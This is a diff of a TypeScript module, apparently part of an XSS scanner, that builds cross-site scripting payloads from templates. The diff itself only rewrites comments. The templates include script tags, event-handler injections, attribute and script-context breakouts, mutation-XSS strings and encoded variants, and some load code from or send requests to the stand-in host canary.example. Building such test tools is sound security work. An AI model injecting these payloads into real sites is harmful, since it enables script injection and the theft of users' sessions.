@@ -1,7 +1,7 @@
-/** Where nothing answers: whatever asks for it has been run. */
+/** A host that does not exist: a request to it proves that a payload was executed. */
 export const CANARY = "canary.example";
 
-/** What is run, in a few words: a call that the page is watched for, a dialog, a request. */
+/** Code that leaves a trace when executed: a watched function call, a dialog, a request. */
 const CODES = (id: number): readonly string[] => [
   `__xss(${id})`,
   `alert(${id})`,
@@ -11,9 +11,9 @@ const CODES = (id: number): readonly string[] => [
   `new Image().src='//${CANARY}/${id}'`,
 ];
 
-/** CODE is run, HOST is asked. */
+/** CODE is executed, HOST is requested. */
 const TEMPLATES: readonly string[] = [
-  // Elements that run on their own.
+  // Elements that execute by themselves.
   "<script>CODE</script>",
   "<ScRiPt >CODE</sCrIpT >",
   "<script src=//HOST/x.js></script>",
@@ -68,7 +68,7 @@ const TEMPLATES: readonly string[] = [
   "<div popover onbeforetoggle=CODE id=p></div><button popovertarget=p autofocus>x</button>",
   "<xss contenteditable autofocus onfocus=CODE tabindex=1>x</xss>",
   "<template shadowrootmode=open><script>CODE</script></template>",
-  // Out of what surrounds it.
+  // Payloads that break out of their context.
   '"><script>CODE</script>',
   "'><script>CODE</script>",
   '" autofocus onfocus=CODE x="',
@@ -92,7 +92,7 @@ const TEMPLATES: readonly string[] = [
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CODE&gt;'>",
   "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CODE src>'>",
   "<svg></p><style><a id='</style><img src=1 onerror=CODE>'>",
-  // In script and in what is written into script.
+  // Payloads for script contexts.
   "';CODE;//",
   '";CODE;//',
   "\\';CODE;//",
@@ -122,7 +122,7 @@ const TEMPLATES: readonly string[] = [
   "//HOST/x.js",
   "/\\HOST/x.js",
   "https://HOST/?<script>CODE</script>",
-  // Written in another way, for those that decode once too often.
+  // Encoded forms, for code that decodes once too often.
   "&lt;script&gt;CODE&lt;/script&gt;",
   "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
   "&#60;script&#62;CODE&#60;/script&#62;",
@@ -134,7 +134,7 @@ const TEMPLATES: readonly string[] = [
   "<\u0000script>CODE</script>",
   "<scrıpt>CODE</scrıpt>",
   "\u202e<script>CODE</script>",
-  // Styles and names that code reads.
+  // Styles, and names that scripts read from the DOM.
   "<style>@import '//HOST/x.css';</style>",
   "x;background:url(//HOST/x)",
   "<b style=\"background:url('//HOST/x')\">x</b>",
@@ -154,10 +154,10 @@ const TEMPLATES: readonly string[] = [
   "<!--",
 ];
 
-/** These swallow what follows them, so nothing may. */
+/** Templates that swallow everything after them. */
 const isLast = (template: string) => /^<(?:plaintext|!--)/.test(template);
 
-/** So many different texts that would like to be script. */
+/** `count` different script payloads. */
 export function payloads(count: number): string[] {
   return Array.from({ length: count }, (_, at) => {
     const codes = CODES(at);
@@ -167,11 +167,11 @@ export function payloads(count: number): string[] {
   });
 }
 
-/** Several payloads for one field, so many in each; what swallows the rest comes last. */
+/** Bundles of `each` payloads for one field; those that swallow the rest come last. */
 export function bundles(count: number, each: number): string[] {
   const all = payloads(count);
   const size = Math.ceil(count / each);
-  // Far apart in the list, so that different kinds stand in one field.
+  // Taken far apart in the list, so that different kinds share a field.
   return Array.from({ length: size }, (_, at) =>
     all
       .filter((_payload, place) => place % size === at)
